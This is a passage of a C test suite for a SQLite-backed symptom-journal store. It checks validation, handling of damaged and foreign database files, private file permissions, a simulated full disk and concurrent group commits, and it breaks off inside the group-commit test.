/* test_store.c — the journal store: schema, round trips, validation,
 * damaged and foreign files, a full disk, threads, export. */
#include "check.h"
#include "store.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <pthread.h>
#include <sqlite3.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char tmpdir[256];

static const char *tpath(const char *name)
{
    static char p[4][512];
    static int k;
    char *s = p[k++ % 4];
    snprintf(s, 512, "%s/%s", tmpdir, name);
    return s;
}

/* The bytes of a file, NUL-terminated; *n gets the length. */
static char *slurp(const char *path, size_t *n)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    fseek(f, 0, SEEK_END);
    long len = ftell(f);
    fseek(f, 0, SEEK_SET);
    char *b = malloc((size_t)len + 1);
    size_t got = fread(b, 1, (size_t)len, f);
    fclose(f);
    b[got] = '\0';
    if (n)
        *n = got;
    return b;
}

static void spit(const char *path, const char *data, size_t n)
{
    FILE *f = fopen(path, "wb");
    fwrite(data, 1, n, f);
    fclose(f);
}

static bool exists(const char *path)
{
    struct stat st;
    return stat(path, &st) == 0;
}

static kf_checkin sample(int pain)
{
    kf_checkin c = { .pain = pain, .pain_before = -1, .relief_hours = -1,
                     .done_s = -1 };
    return c;
}

static kf_store *open_ok(const char *path)
{
    kf_store *s = NULL;
    kf_buf err;
    kf_buf_init(&err);
    kf_err e = kf_store_open(path, &s, &err);
    if (e != KF_OK)
        fprintf(stderr, "open %s: %s\n", path, err.s ? err.s : "");
    kf_buf_free(&err);
    return s;
}

static int count_checkins(kf_store *s)
{
    kf_checkin_list l;
    if (kf_store_list_checkins(s, NULL, 0, &l, NULL) != KF_OK)
        return -1;
    int n = l.n;
    kf_checkin_list_free(&l);
    return n;
}

/* Saves one check-in. */
static void c_add_one(kf_store *s)
{
    kf_checkin c = sample(3);
    CHECK_INT(kf_store_add_checkin(s, &c, NULL, NULL), KF_OK);
}

/* How many entries a folder holds, not counting . and .. */
static int count_files(const char *dir)
{
    DIR *d = opendir(dir);
    int n = 0;
    for (struct dirent *e; d && (e = readdir(d)); )
        n += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
    if (d)
        closedir(d);
    return n;
}

/* A journal with `n` check-ins, closed again. */
static void make_journal(const char *path, int n)
{
    kf_store *s = open_ok(path);
    for (int i = 0; i < n; i++) {
        kf_checkin c = sample(i % 11);
        c.note = "a note long enough to take some room in the pages of the file, "
                 "so that the file has more than a couple of pages in it";
        kf_store_add_checkin(s, &c, NULL, NULL);
    }
    kf_store_close(s);
}

static void test_time(void)
{
    long long t;
    CHECK(kf_time_parse_utc("2024-02-29T12:30:05Z", &t));
    char back[KF_TIME_LEN];
    kf_time_format(t, back);
    CHECK_STR(back, "2024-02-29T12:30:05Z");
    CHECK(!kf_time_parse_utc("2023-02-29T12:30:05Z", &t));   /* not a leap year */
    CHECK(!kf_time_parse_utc("2024-13-01T00:00:00Z", &t));
    CHECK(!kf_time_parse_utc("2024-01-01 00:00:00Z", &t));
    CHECK(!kf_time_parse_utc("2024-01-01T00:00:00", &t));
    CHECK(!kf_time_parse_utc("2024-01-01T24:00:00Z", &t));
    CHECK(!kf_time_parse_utc("1969-12-31T23:59:59Z", &t));
    CHECK(!kf_time_parse_utc("", &t));
    CHECK(!kf_time_parse_utc(NULL, &t));
    kf_time_now(back);
    CHECK(kf_time_parse_utc(back, &t));
}

static void test_open_new(void)
{
    const char *p = tpath("new.db");
    kf_store *s = open_ok(p);
    CHECK(s != NULL);
    if (!s)
        return;
    CHECK_INT(kf_store_schema_version(s), KF_STORE_SCHEMA);
    CHECK_STR(kf_store_backend(s), "sqlite");
    CHECK(!kf_store_readonly(s));
    CHECK_INT(count_checkins(s), 0);
    kf_store_close(s);
    /* WAL mode, our application id, one version row per migration. */
    sqlite3 *db;
    CHECK_INT(sqlite3_open_v2(p, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
    sqlite3_stmt *st;
    sqlite3_prepare_v2(db, "PRAGMA journal_mode", -1, &st, NULL);
    CHECK_INT(sqlite3_step(st), SQLITE_ROW);
    CHECK_STR((const char *)sqlite3_column_text(st, 0), "wal");
    sqlite3_finalize(st);
    sqlite3_prepare_v2(db, "PRAGMA application_id", -1, &st, NULL);
    CHECK_INT(sqlite3_step(st), SQLITE_ROW);
    CHECK_INT(sqlite3_column_int(st, 0), 0x4b6e6f74);
    sqlite3_finalize(st);
    sqlite3_prepare_v2(db, "SELECT count(*), max(version) FROM schema_version",
                       -1, &st, NULL);
    CHECK_INT(sqlite3_step(st), SQLITE_ROW);
    CHECK_INT(sqlite3_column_int(st, 0), KF_STORE_SCHEMA);
    CHECK_INT(sqlite3_column_int(st, 1), KF_STORE_SCHEMA);
    sqlite3_finalize(st);
    sqlite3_close(db);
    /* Reopening migrates nothing more. */
    s = open_ok(p);
    CHECK(s != NULL);
    CHECK_INT(kf_store_migrate(s, NULL), KF_OK);
    CHECK_INT(kf_store_schema_version(s), KF_STORE_SCHEMA);
    kf_store_close(s);
}

static void test_roundtrip(void)
{
    kf_store *s = open_ok(tpath("rt.db"));
    if (!s)
        return;
    kf_checkin c = sample(6);
    strcpy(c.at, "2024-03-01T08:00:00Z");
    c.pain_before = 7;
    c.region = "medial_border";
    c.side = KF_SIDE_RIGHT;
    c.did = "tennis_ball,heat";
    c.relief_hours = 2.5;
    c.worse_after = "heat";
    c.done_s = 300;
    c.stopped_early = true;
    c.via = "do";
    c.note = "after work, \"tight\"\nsecond line; é";
    long long id1 = 0, id2 = 0;
    CHECK_INT(kf_store_add_checkin(s, &c, &id1, NULL), KF_OK);
    kf_checkin d = sample(0);
    strcpy(d.at, "2024-02-01T08:00:00Z");     /* earlier: listed first */
    CHECK_INT(kf_store_add_checkin(s, &d, &id2, NULL), KF_OK);
    CHECK(id1 > 0 && id2 > id1);
    kf_checkin_list l;
    CHECK_INT(kf_store_list_checkins(s, NULL, 0, &l, NULL), KF_OK);
    CHECK_INT(l.n, 2);
    if (l.n == 2) {
        CHECK_INT(l.v[0].id, id2);
        CHECK(l.v[0].region == NULL);
        CHECK_STR(l.v[0].did, "");
        CHECK(l.v[0].relief_hours < 0);
        CHECK_INT(l.v[0].pain_before, -1);
        CHECK_INT(l.v[0].done_s, -1);
        CHECK_STR(l.v[0].via, "cli");
        const kf_checkin *r = &l.v[1];
        CHECK_STR(r->at, "2024-03-01T08:00:00Z");
        CHECK_INT(r->pain, 6);
        CHECK_INT(r->pain_before, 7);
        CHECK_STR(r->region, "medial_border");
        CHECK_INT(r->side, KF_SIDE_RIGHT);
        CHECK_STR(r->did, "tennis_ball,heat");
        CHECK_NEAR(r->relief_hours, 2.5, 1e-9);
        CHECK_STR(r->worse_after, "heat");
        CHECK_INT(r->done_s, 300);
        CHECK(r->stopped_early);
        CHECK_STR(r->via, "do");
        CHECK_STR(r->note, c.note);
    }
    kf_checkin_list_free(&l);
    /* since and limit */
    CHECK_INT(kf_store_list_checkins(s, "2024-02-15T00:00:00Z", 0, &l, NULL), KF_OK);
    CHECK_INT(l.n, 1);
    kf_checkin_list_free(&l);
    CHECK_INT(kf_store_list_checkins(s, NULL, 1, &l, NULL), KF_OK);
    CHECK_INT(l.n, 1);
    if (l.n == 1)
        CHECK_INT(l.v[0].id, id1);        /* the newest */
    kf_checkin_list_free(&l);
    /* default time is now */
    kf_checkin e = sample(3);
    CHECK_INT(kf_store_add_checkin(s, &e, NULL, NULL), KF_OK);
    CHECK_INT(kf_store_list_checkins(s, NULL, 1, &l, NULL), KF_OK);
    long long t;
    CHECK(l.n == 1 && kf_time_parse_utc(l.v[0].at, &t) &&
          llabs(t - (long long)time(NULL)) < 5);
    kf_checkin_list_free(&l);
    kf_store_close(s);
    /* durable across reopen */
    s = open_ok(tpath("rt.db"));
    CHECK_INT(count_checkins(s), 3);
    kf_store_close(s);
}

static void test_validation(void)
{
    kf_store *s = open_ok(tpath("val.db"));
    if (!s)
        return;
    struct { kf_checkin c; kf_err want; const char *msg; } cases[12];
    int n = 0;
    cases[n].c = sample(11);  cases[n].want = KF_EINVAL; cases[n++].msg = "0 to 10";
    cases[n].c = sample(-1);  cases[n].want = KF_EINVAL; cases[n++].msg = "0 to 10";
    cases[n].c = sample(5);   cases[n].c.pain_before = 12;
    cases[n].want = KF_EINVAL; cases[n++].msg = "pain before";
    cases[n].c = sample(5);   cases[n].c.relief_hours = NAN;
    cases[n].want = KF_EINVAL; cases[n++].msg = "relief hours";
    cases[n].c = sample(5);   cases[n].c.relief_hours = 9000;
    cases[n].want = KF_EINVAL; cases[n++].msg = "relief hours";
    cases[n].c = sample(5);   strcpy(cases[n].c.at, "2999-01-01T00:00:00Z");
    cases[n].want = KF_EINVAL; cases[n++].msg = "in the future";
    cases[n].c = sample(5);   strcpy(cases[n].c.at, "2024-02-30T00:00:00Z");
    cases[n].want = KF_EINVAL; cases[n++].msg = "YYYY-MM-DDTHH:MM:SSZ";
    cases[n].c = sample(5);   cases[n].c.did = "Tennis Ball";
    cases[n].want = KF_EINVAL; cases[n++].msg = "lower-case";
    cases[n].c = sample(5);   cases[n].c.note = "bad \xff byte";
    cases[n].want = KF_EINVAL; cases[n++].msg = "UTF-8";
    cases[n].c = sample(5);   cases[n].c.note = "bell \a";
    cases[n].want = KF_EINVAL; cases[n++].msg = "control character";
    static char longnote[KF_STORE_NOTE_MAX + 2];
    memset(longnote, 'x', sizeof longnote - 1);
    cases[n].c = sample(5);   cases[n].c.note = longnote;
    cases[n].want = KF_ETOOBIG; cases[n++].msg = "too long";
    cases[n].c = sample(5);   cases[n].c.done_s = -7;
    cases[n].want = KF_EINVAL; cases[n++].msg = "86400";
    for (int i = 0; i < n; i++) {
        kf_buf err;
        kf_buf_init(&err);
        CHECK_INT(kf_store_add_checkin(s, &cases[i].c, NULL, &err), cases[i].want);
        CHECK_CONTAINS(err.s, cases[i].msg);
        kf_buf_free(&err);
    }
    CHECK_INT(count_checkins(s), 0);
    /* The edges are fine. */
    kf_checkin ok = sample(10);
    ok.relief_hours = 0;
    CHECK_INT(kf_store_add_checkin(s, &ok, NULL, NULL), KF_OK);
    ok = sample(0);
    ok.relief_hours = KF_STORE_HOURS_MAX;
    CHECK_INT(kf_store_add_checkin(s, &ok, NULL, NULL), KF_OK);
    CHECK_INT(count_checkins(s), 2);
    kf_store_close(s);
}

static void test_consultations(void)
{
    kf_store *s = open_ok(tpath("cons.db"));
    if (!s)
        return;
    long long id = 0;
    kf_buf err;
    kf_buf_init(&err);
    CHECK_INT(kf_store_add_consultation(s, "knot left of my spine",
              "[{\"id\":\"pain_medial_border\",\"state\":\"present\"}]",
              "0123456789abcdef", &id, &err), KF_OK);
    CHECK(id > 0);
    CHECK_INT(kf_store_add_consultation(s, NULL, "[]", "v2", NULL, &err),
              KF_OK);
    CHECK_INT(kf_store_add_consultation(s, "x", "[oops", "v", NULL, &err),
              KF_EPARSE);
    CHECK_CONTAINS(err.s, "findings is not valid JSON");
    kf_buf_free(&err);
    CHECK_INT(kf_store_add_consultation(s, "x", NULL, "v", NULL, &err),
              KF_EINVAL);
    kf_buf_free(&err);
    kf_consultation_list l;
    CHECK_INT(kf_store_list_consultations(s, 0, &l, NULL), KF_OK);
    CHECK_INT(l.n, 2);
    if (l.n == 2) {
        CHECK_STR(l.v[0].text, "knot left of my spine");
        CHECK_STR(l.v[0].kb_version, "0123456789abcdef");
        CHECK_STR(l.v[1].text, "");
    }
    kf_consultation_list_free(&l);
    CHECK_INT(kf_store_list_consultations(s, 1, &l, NULL), KF_OK);
    CHECK(l.n == 1 && !strcmp(l.v[0].kb_version, "v2"));
    kf_consultation_list_free(&l);
    kf_store_close(s);
}

/* Opening `path` must fail with KF_EDB, name the problem, and leave the
 * file byte for byte as it was, with no -wal or -journal made beside it. */
static void refused(const char *path, const char *msg)
{
    size_t n0, n1;
    char *before = slurp(path, &n0);
    kf_store *s = NULL;
    kf_buf err;
    kf_buf_init(&err);
    kf_err e = kf_store_open(path, &s, &err);
    CHECK_INT(e, KF_EDB);
    CHECK(s == NULL);
    CHECK_CONTAINS(err.s, msg);
    CHECK_CONTAINS(err.s, "left as it is");
    kf_buf_free(&err);
    char *after = slurp(path, &n1);
    CHECK(before && after && n0 == n1 && memcmp(before, after, n0) == 0);
    free(before);
    free(after);
    kf_store_close(s);
}

/* Damage inside the pages is not looked for at every open (that read the
 * whole file each time: issue 14), but the full check finds it, says so,
 * and neither writes to the file. */
static void damage_found(const char *path)
{
    size_t n0, n1;
    char *before = slurp(path, &n0);
    kf_store *s = NULL;
    kf_buf err;
    kf_buf_init(&err);
    kf_err e = kf_store_open(path, &s, &err);
    if (e == KF_OK) {
        e = kf_store_check(s, true, &err);
        kf_store_close(s);
    }
    CHECK_INT(e, KF_EDB);
    CHECK_CONTAINS(err.s, "damaged");
    CHECK_CONTAINS(err.s, "left as it is");
    kf_buf_free(&err);
    char *after = slurp(path, &n1);
    CHECK(before && after && n0 == n1 && memcmp(before, after, n0) == 0);
    free(before);
    free(after);
}

static void test_not_a_database(void)
{
    const char *p = tpath("notes.txt");
    const char *text = "my grocery list: eggs, milk, magnesium\n"
                       "and a second line so the file has some length to it\n";
    spit(p, text, strlen(text));
    refused(p, "not an SQLite database");
    /* 512 bytes of random-looking garbage */
    char junk[512];
    for (size_t i = 0; i < sizeof junk; i++)
        junk[i] = (char)(i * 131 + 7);
    p = tpath("junk.db");
    spit(p, junk, sizeof junk);
    refused(p, "not an SQLite database");
}

static void test_truncated(void)
{
    const char *p = tpath("trunc.db");
    make_journal(p, 400);
    size_t n;
    char *b = slurp(p, &n);
    CHECK(n > 8192);
    spit(p, b, n / 2);                  /* half the file, mid-page */
    refused(p, "damaged");
    spit(p, b, 4096 * 2);               /* whole pages but too few */
    refused(p, "damaged");
    spit(p, b, 60);                     /* not even a whole header */
    refused(p, "cannot open the journal");
    free(b);
}

static void test_corrupt_pages(void)
{
    const char *p = tpath("corrupt.db");
    make_journal(p, 400);
    size_t n;
    char *b = slurp(p, &n);
    /* Scribble over the check-ins' root page (page 5 since schema 3: the
     * empty tables before it have nothing in their pages to damage) and
     * three quarters into the file, where their rows are. */
    for (size_t i = 4 * 4096 + 8; i < 4 * 4096 + 1200 && i < n; i++)
        b[i] = (char)(i * 7);
    for (size_t i = n / 4 * 3; i < n / 4 * 3 + 2000 && i < n; i++)
        b[i] = (char)0xA5;
    spit(p, b, n);
    damage_found(p);
    /* A broken header magic. */
    char *orig = slurp(p, &n);
    memcpy(orig, "SQLite format 2", 15);
    spit(p, orig, n);
    refused(p, "not an SQLite database");
    free(orig);
    free(b);
}

static void test_foreign_and_newer(void)
{
    const char *p = tpath("foreign.db");
    sqlite3 *db;
    sqlite3_open(p, &db);
    sqlite3_exec(db, "CREATE TABLE recipes (name TEXT); "
                     "INSERT INTO recipes VALUES ('soup')", NULL, NULL, NULL);
    sqlite3_close(db);
    refused(p, "not a knotfinder journal");

    p = tpath("newer.db");
    make_journal(p, 1);
    sqlite3_open(p, &db);
    sqlite3_exec(db, "INSERT INTO schema_version VALUES (99, "
                     "'2030-01-01T00:00:00Z')", NULL, NULL, NULL);
    sqlite3_close(db);
    refused(p, "newer than this knotfinder");
}

static void test_paths(void)
{
    kf_store *s = NULL;
    kf_buf err;
    kf_buf_init(&err);
    /* A missing folder: clear error, nothing created. */
    const char *p = tpath("no/such/folder/x.db");
    CHECK(kf_store_open(p, &s, &err) != KF_OK);
    CHECK(s == NULL);
    CHECK_CONTAINS(err.s, "folder does not exist");
    CHECK(!exists(p));
    kf_buf_free(&err);
    /* A folder. */
    CHECK_INT(kf_store_open(tmpdir, &s, &err), KF_EINVAL);
    CHECK_CONTAINS(err.s, "a folder");
    kf_buf_free(&err);
    /* A PostgreSQL URI goes to that backend (tests/pg/run.sh tests it on a
     * server); with no server there: a clear error, nothing made. */
    CHECK_INT(kf_store_open("postgresql:///kf?host=/nonexistent-kf-socket-dir",
                            &s, &err), KF_EDB);
    CHECK(s == NULL);
    CHECK_CONTAINS(err.s, "cannot connect to PostgreSQL");
    kf_buf_free(&err);
    /* An empty file is not a journal (knotfinder never leaves one behind):
     * refused, and left as it is. */
    p = tpath("empty.db");
    spit(p, "", 0);
    s = NULL;
    CHECK_INT(kf_store_open(p, &s, &err), KF_EDB);
    CHECK(s == NULL);
    CHECK_CONTAINS(err.s, "empty");
    kf_buf_free(&err);
    struct stat est;
    CHECK(stat(p, &est) == 0 && est.st_size == 0);
    /* A new journal and the files beside it are private to the user, and
     * nothing but the journal is left in its folder. */
    char priv[512];
    snprintf(priv, sizeof priv, "%s", tpath("private/j.db"));
    p = priv;
    mkdir(tpath("private"), 0755);
    s = open_ok(p);
    c_add_one(s);
    CHECK(stat(p, &est) == 0 && (est.st_mode & 0777) == 0600);
    CHECK(stat(tpath("private/j.db-wal"), &est) == 0 && (est.st_mode & 0777) == 0600);
    CHECK(stat(tpath("private/j.db-shm"), &est) == 0 && (est.st_mode & 0777) == 0600);
    kf_store_close(s);
    CHECK_INT(count_files(tpath("private")), 1);
    /* A journal an older knotfinder made world-readable is made private. */
    chmod(p, 0644);
    s = open_ok(p);
    kf_store_close(s);
    CHECK(stat(p, &est) == 0 && (est.st_mode & 0777) == 0600);
    /* The default path follows XDG_DATA_HOME, else HOME. */
    char buf[1024], want[1024];
    setenv("XDG_DATA_HOME", tpath("xdg"), 1);
    CHECK_INT(kf_store_default_path(buf, sizeof buf, true, NULL), KF_OK);
    snprintf(want, sizeof want, "%s/xdg/knotfinder/knotfinder.db", tmpdir);
    CHECK_STR(buf, want);
    struct stat st;
    CHECK(stat(tpath("xdg/knotfinder"), &st) == 0 && (st.st_mode & 0777) == 0700);
    s = open_ok(NULL);
    CHECK(s && !strcmp(kf_store_path(s), want));
    kf_store_close(s);
    setenv("XDG_DATA_HOME", "relative/dir", 1);
    setenv("HOME", tpath("home"), 1);
    CHECK_INT(kf_store_default_path(buf, sizeof buf, false, NULL), KF_OK);
    snprintf(want, sizeof want, "%s/home/.local/share/knotfinder/knotfinder.db",
             tmpdir);
    CHECK_STR(buf, want);
    unsetenv("XDG_DATA_HOME");
    unsetenv("HOME");
    CHECK_INT(kf_store_default_path(buf, sizeof buf, false, &err), KF_EINVAL);
    CHECK_CONTAINS(err.s, "--db");
    kf_buf_free(&err);
}

/* ---- a full disk, simulated by a VFS that refuses to grow files past a
 * quota (the shell tests also use a real tiny tmpfs) ---- */

static sqlite3_vfs *real_vfs;
static sqlite3_int64 quota = -1;      /* bytes per file; -1: no limit */

typedef struct {
    sqlite3_file base;
    sqlite3_file *real;
} qfile;

static int q_close(sqlite3_file *f)
{
    qfile *q = (qfile *)f;
    int rc = q->real->pMethods ? q->real->pMethods->xClose(q->real) : SQLITE_OK;
    return rc;
}
#define REAL(f) (((qfile *)(f))->real)
static int q_read(sqlite3_file *f, void *b, int n, sqlite3_int64 o)
{ return REAL(f)->pMethods->xRead(REAL(f), b, n, o); }
static int q_write(sqlite3_file *f, const void *b, int n, sqlite3_int64 o)
{
    if (quota >= 0 && o + n > quota)
        return SQLITE_FULL;
    return REAL(f)->pMethods->xWrite(REAL(f), b, n, o);
}
static int q_truncate(sqlite3_file *f, sqlite3_int64 sz)
{ return REAL(f)->pMethods->xTruncate(REAL(f), sz); }
static int q_sync(sqlite3_file *f, int fl)
{ return REAL(f)->pMethods->xSync(REAL(f), fl); }
static int q_size(sqlite3_file *f, sqlite3_int64 *sz)
{ return REAL(f)->pMethods->xFileSize(REAL(f), sz); }
static int q_lock(sqlite3_file *f, int l)
{ return REAL(f)->pMethods->xLock(REAL(f), l); }
static int q_unlock(sqlite3_file *f, int l)
{ return REAL(f)->pMethods->xUnlock(REAL(f), l); }
static int q_reserved(sqlite3_file *f, int *r)
{ return REAL(f)->pMethods->xCheckReservedLock(REAL(f), r); }
static int q_fctl(sqlite3_file *f, int op, void *a)
{ return REAL(f)->pMethods->xFileControl(REAL(f), op, a); }
static int q_sector(sqlite3_file *f)
{ return REAL(f)->pMethods->xSectorSize(REAL(f)); }
static int q_dev(sqlite3_file *f)
{ return REAL(f)->pMethods->xDeviceCharacteristics(REAL(f)); }
static int q_shmmap(sqlite3_file *f, int pg, int sz, int ext, void volatile **pp)
{ return REAL(f)->pMethods->xShmMap(REAL(f), pg, sz, ext, pp); }
static int q_shmlock(sqlite3_file *f, int o, int n, int fl)
{ return REAL(f)->pMethods->xShmLock(REAL(f), o, n, fl); }
static void q_shmbarrier(sqlite3_file *f)
{ REAL(f)->pMethods->xShmBarrier(REAL(f)); }
static int q_shmunmap(sqlite3_file *f, int del)
{ return REAL(f)->pMethods->xShmUnmap(REAL(f), del); }
static int q_fetch(sqlite3_file *f, sqlite3_int64 o, int n, void **pp)
{ *pp = NULL; return SQLITE_OK; }
static int q_unfetch(sqlite3_file *f, sqlite3_int64 o, void *p)
{ return SQLITE_OK; }
#undef REAL

static const sqlite3_io_methods q_methods = {
    3, q_close, q_read, q_write, q_truncate, q_sync, q_size, q_lock, q_unlock,
    q_reserved, q_fctl, q_sector, q_dev, q_shmmap, q_shmlock, q_shmbarrier,
    q_shmunmap, q_fetch, q_unfetch
};

static int q_open(sqlite3_vfs *vfs, const char *name, sqlite3_file *f,
                  int flags, int *out)
{
    qfile *q = (qfile *)f;
    q->real = (sqlite3_file *)(q + 1);
    int rc = real_vfs->xOpen(real_vfs, name, q->real, flags, out);
    q->base.pMethods = q->real->pMethods ? &q_methods : NULL;
    return rc;
}

static sqlite3_vfs quota_vfs;

static void install_quota_vfs(void)
{
    real_vfs = sqlite3_vfs_find(NULL);
    quota_vfs = *real_vfs;
    quota_vfs.zName = "kfquota";
    quota_vfs.szOsFile = (int)sizeof(qfile) + real_vfs->szOsFile;
    quota_vfs.xOpen = q_open;
    quota_vfs.pNext = NULL;
    sqlite3_vfs_register(&quota_vfs, 1);
}

/* A queued save's outcome (group commit tests below). */
static const char gc_findings[] = "{\"findings\":[],\"dominant_hand\":null,\"facts\":{}}";

typedef struct {
    pthread_mutex_t mu;
    pthread_cond_t  cv;
    int             done, ok, submitted;
    char            why[256];
} gc_state;

typedef struct {
    gc_state  *g;
    long long  id;
    kf_err     e;
    bool       called;
} gc_slot;

static void gc_done(void *ctx, kf_err e, long long id, const char *why)
{
    gc_slot *sl = ctx;
    gc_state *g = sl->g;
    pthread_mutex_lock(&g->mu);
    sl->e = e;
    sl->id = id;
    CHECK(!sl->called);                 /* once per row */
    sl->called = true;
    g->done++;
    if (e == KF_OK)
        g->ok++;
    else if (why)
        snprintf(g->why, sizeof g->why, "%s", why);
    pthread_cond_broadcast(&g->cv);
    pthread_mutex_unlock(&g->mu);
}

static void gc_wait(gc_state *g, int *field, int n)
{
    pthread_mutex_lock(&g->mu);
    while (*field < n)
        pthread_cond_wait(&g->cv, &g->mu);
    pthread_mutex_unlock(&g->mu);
}

static void test_disk_full(void)
{
    install_quota_vfs();
    const char *p = tpath("full.db");
    kf_store *s = open_ok(p);
    if (!s) {
        sqlite3_vfs_register(real_vfs, 1);
        return;
    }
    kf_checkin c = sample(4);
    c.note = "filling the disk one check-in at a time, with words to spare";
    int saved = 0;
    quota = 400 * 1024;
    kf_err e = KF_OK;
    kf_buf err;
    kf_buf_init(&err);
    for (int i = 0; i < 100000 && e == KF_OK; i++) {
        e = kf_store_add_checkin(s, &c, NULL, &err);
        if (e == KF_OK)
            saved++;
    }
    CHECK_INT(e, KF_EIO);
    CHECK_CONTAINS(err.s, "disk is full");
    CHECK_CONTAINS(err.s, "nothing was saved");
    CHECK(saved > 10);
    kf_buf_free(&err);
    /* Queued consultations on a full disk: each is told it was not saved,
     * and why, and none is there. */
    {
        gc_state g = { .mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER };
        static gc_slot sl[20];
        static char big[3000];
        memset(big, 'k', sizeof big - 1);
        int queued = 0;
        for (int i = 0; i < 20; i++) {
            sl[i] = (gc_slot){ .g = &g };
            if (kf_store_add_consultation_async(s, big, sizeof big - 1, gc_findings,
                                                sizeof gc_findings - 1, "v", gc_done,
                                                &sl[i], NULL) == KF_OK)
                queued++;
        }
        CHECK_INT(queued, 20);
        gc_wait(&g, &g.done, 20);
        CHECK_INT(g.ok, 0);
        CHECK_CONTAINS(g.why, "disk is full");
        kf_consultation_list l;
        CHECK_INT(kf_store_list_consultations(s, 0, &l, NULL), KF_OK);
        CHECK_INT(l.n, 0);
        kf_consultation_list_free(&l);
    }
    /* What was committed is still there, and reading works while full. */
    CHECK_INT(count_checkins(s), saved);
    /* Room again: writing goes on. */
    quota = -1;
    CHECK_INT(kf_store_add_checkin(s, &c, NULL, NULL), KF_OK);
    kf_store_close(s);
    s = open_ok(p);
    CHECK(s != NULL);
    CHECK_INT(count_checkins(s), saved + 1);
    kf_store_close(s);
    /* A full disk while creating a journal: a clear error, no half file that
     * later passes for a journal. */
    quota = 0;
    p = tpath("full2.db");
    kf_store *s2 = NULL;
    CHECK(kf_store_open(p, &s2, &err) != KF_OK);
    CHECK_CONTAINS(err.s, "disk is full");
    kf_buf_free(&err);
    quota = -1;
    sqlite3_vfs_register(real_vfs, 1);
    sqlite3_vfs_unregister(&quota_vfs);
    CHECK(access(p, F_OK) != 0);   /* nothing half-made was left there */
    s2 = open_ok(p);
    CHECK(s2 != NULL);
    kf_store_close(s2);
}

/* ---- threads: one shared store, and one store per thread ---- */

typedef struct {
    kf_store *shared;
    const char *path;
    int n, ok;
} worker_arg;

static void *worker(void *p)
{
    worker_arg *a = p;
    kf_store *s = a->shared ? a->shared : open_ok(a->path);
    for (int i = 0; s && i < a->n; i++) {
        kf_checkin c = sample(i % 11);
        c.via = "web";
        kf_buf err;
        kf_buf_init(&err);
        if (kf_store_add_checkin(s, &c, NULL, &err) == KF_OK)
            a->ok++;
        else
            fprintf(stderr, "worker: %s\n", err.s);
        kf_buf_free(&err);
    }
    if (!a->shared)
        kf_store_close(s);
    return NULL;
}

static void test_threads(void)
{
    const char *p = tpath("threads.db");
    kf_store *s = open_ok(p);
    if (!s)
        return;
    pthread_t t[8];
    worker_arg a[8];
    for (int i = 0; i < 8; i++) {
        a[i] = (worker_arg){ .shared = i < 4 ? s : NULL, .path = p, .n = 60 };
        pthread_create(&t[i], NULL, worker, &a[i]);
    }
    int ok = 0;
    for (int i = 0; i < 8; i++) {
        pthread_join(t[i], NULL);
        ok += a[i].ok;
    }
    CHECK_INT(ok, 8 * 60);
    CHECK_INT(count_checkins(s), 8 * 60);
    kf_store_close(s);
}

/* ---- group commit: kf_store_add_consultation_async ---- */

#define GC_THREADS 16
#define GC_EACH    25

typedef struct {
    kf_store *s;
    gc_state *g;
    gc_slot  *slots;        /* GC_EACH of them */
    char      text[GC_EACH][48];
    int       t;
} gc_arg;

static void *gc_worker(void *p)
{
    gc_arg *a = p;
    for (int i = 0; i < GC_EACH; i++) {
        snprintf(a->text[i], sizeof a->text[i], "a knot, thread %d row %d", a->t, i);
        a->slots[i] = (gc_slot){ .g = a->g, .e = -1 };
        kf_buf err;
        kf_buf_init(&err);
        kf_err e = kf_store_add_consultation_async(a->s, a->text[i], strlen(a->text[i]),
                                                   gc_findings, sizeof gc_findings - 1,
                                                   "0123456789abcdef", gc_done,
                                                   &a->slots[i], &err);
        CHECK_INT(e, KF_OK);
        kf_buf_free(&err);
        pthread_mutex_lock(&a->g->mu);
        a->g->submitted++;
        pthread_cond_broadcast(&a->g->cv);
        pthread_mutex_unlock(&a->g->mu);
    }
    return NULL;
}

/* Many threads queue consultations while another connection holds the
 * write lock: every row is saved once, with its own words and a distinct
 * id, each caller is told once and only after the commit, and the 400 rows
 * take at most 2 transactions (the first, stuck behind the lock, and one
 * for all that queued meanwhile). */
static void test_group_commit(void)
{
    const char *p = tpath("group.db");
    kf_store *s = open_ok(p);
    if (!s)
        return;
    sqlite3 *other = NULL;
    CHECK_INT(sqlite3_open(p, &other), SQLITE_OK);
    CHECK_INT(sqlite3_exec(other, "BEGIN IMMEDIATE", NULL, NULL, NULL), SQLITE_OK);
    gc_state g = { .mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER };
    static gc_slot slots[GC_THREADS][GC_EACH];
    static gc_arg args[GC_THREADS];
    pthread_t t[GC_THREADS];
    for (int i = 0; i < GC_THREADS; i++) {
        args[i] = (gc_arg){ .s = s, .g = &g, .slots = slots[i], .t = i };
        pthread_create(&t[i], NULL, gc_worker, &args[i]);
    }
    for (int i = 0; i < GC_THREADS; i++)
        pthread_join(t[i], NULL);
    gc_wait(&g, &g.submitted, GC_THREADS * GC_EACH);
    pthread_mutex_lock(&g.mu);
    CHECK_INT(g.done, 0);              /* nothing is told before its commit */
    pthread_mutex_unlock(&g.mu);
    CHECK_INT(sqlite3_exec(other, "COMMIT", NULL, NULL, NULL), SQLITE_OK);
    gc_wait(&g, &g.done, GC_THREADS * GC_EACH);
    CHECK_INT(g.ok, GC_THREADS * GC_EACH);
    long long commits = kf_store_group_commits(s);
    if (!(commits >= 1 && commits <= 2))    /* seen once in CI under load: say how many */
        fprintf(stderr, "test_group_commit: %lld commits for %d rows\n", commits,
                GC_THREADS * GC_EACH);
    CHECK(commits >= 1 && commits <= 2);
    /* Every row, under its own id, with its own words. */
    sqlite3_stmt *st = NULL;
    CHECK_INT(sqlite3_prepare_v2(other, "SELECT text FROM consultations WHERE id = ?1",
                                 -1, &st, NULL), SQLITE_OK);
    int found = 0;
    for (int i = 0; i < GC_THREADS; i++)
        for (int k = 0; k < GC_EACH; k++) {
            sqlite3_bind_int64(st, 1, slots[i][k].id);
            if (sqlite3_step(st) == SQLITE_ROW &&
                !strcmp((const char *)sqlite3_column_text(st, 0), args[i].text[k]))
                found++;
            sqlite3_reset(st);
        }
